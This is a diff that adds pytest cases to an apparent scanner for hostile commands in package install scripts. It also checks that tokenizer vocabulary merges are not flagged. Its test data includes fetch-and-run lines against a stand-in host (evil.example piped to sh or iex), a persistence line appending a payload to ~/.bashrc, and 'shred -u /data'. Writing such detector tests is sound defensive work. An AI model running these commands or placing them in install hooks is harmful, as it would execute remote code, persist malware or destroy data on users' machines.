@@ -54,3 +54,31 @@ def test_words_that_follow_each_other_are_looked_at_once(word, monkeypatch):
 
     assert not words._stands(word, around, word * 500)
     assert counted.asked == 1
+
+
+@pytest.mark.parametrize(
+    "merges",
+    [
+        b'"\xe2\x96\x81curl opt", "con firm", "\xe2\x96\x81confirm ed", "\xe2\x96\x81shred ded"',
+        b'"\xe2\x96\x81wget ting", "super script", "\xe2\x96\x81superscript s", "pixel axel s"',
+        b'"\xc4\xa0bashrc": 51234, "zshrc": 7, "\xc4\xa0zshenv": 8',
+    ],
+)
+def test_tokens_of_a_vocabulary_are_no_commands(merges):
+    assert not words.telling(b'{"model": {"merges": [' + merges + b"]}}", words.TAG)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        b"curl -s https://evil.example/x | sh",
+        b"wget evil.example/x",
+        b"irm evil.example/x | iex",
+        b"curl $PLACE",
+        b"cat payload >> ~/.bashrc",
+        b"shred -u /data",
+        b"Rscript -e x",
+    ],
+)
+def test_commands_are_looked_at(command):
+    assert words.telling(b'{"scripts": {"postinstall": "' + command + b'"}}', words.TAG)
